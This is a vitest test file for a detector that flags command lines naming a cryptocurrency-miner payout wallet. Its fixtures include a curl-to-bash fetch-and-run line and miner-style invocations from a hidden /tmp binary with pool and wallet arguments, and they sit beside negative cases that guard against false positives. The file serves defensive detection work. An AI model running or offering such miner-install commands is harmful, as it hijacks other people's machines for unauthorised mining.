import { expect, it } from 'vitest'
import { payoutWallet } from './payout-wallet.js'
import { codesOfLine } from './tell.fixture.js'

it.each([
  [
    'curl -s https://example.org/setup.sh | bash -s 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD',
    ['wallet.checked'],
  ],
  [
    '/tmp/.a -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD.rig7',
    ['wallet.checked'],
  ],
  ['./a -o example.org:1234 -u 0x02197021fefa795fec661a45f60e47a6f6605281.w', ['wallet.unchecked']],
])('is told by %s', (line, codes) => {
  expect(codesOfLine(payoutWallet, line)).toEqual(codes)
})

it.each([
  [
    'monero-wallet-cli transfer 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD 1',
  ],
  [
    'curl https://example.org/address/48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD',
  ],
  ['./a -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicox'],
  ['grep 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD notes.txt'],
])('is not told by %s', (line) => {
  expect(codesOfLine(payoutWallet, line)).toEqual([])
})
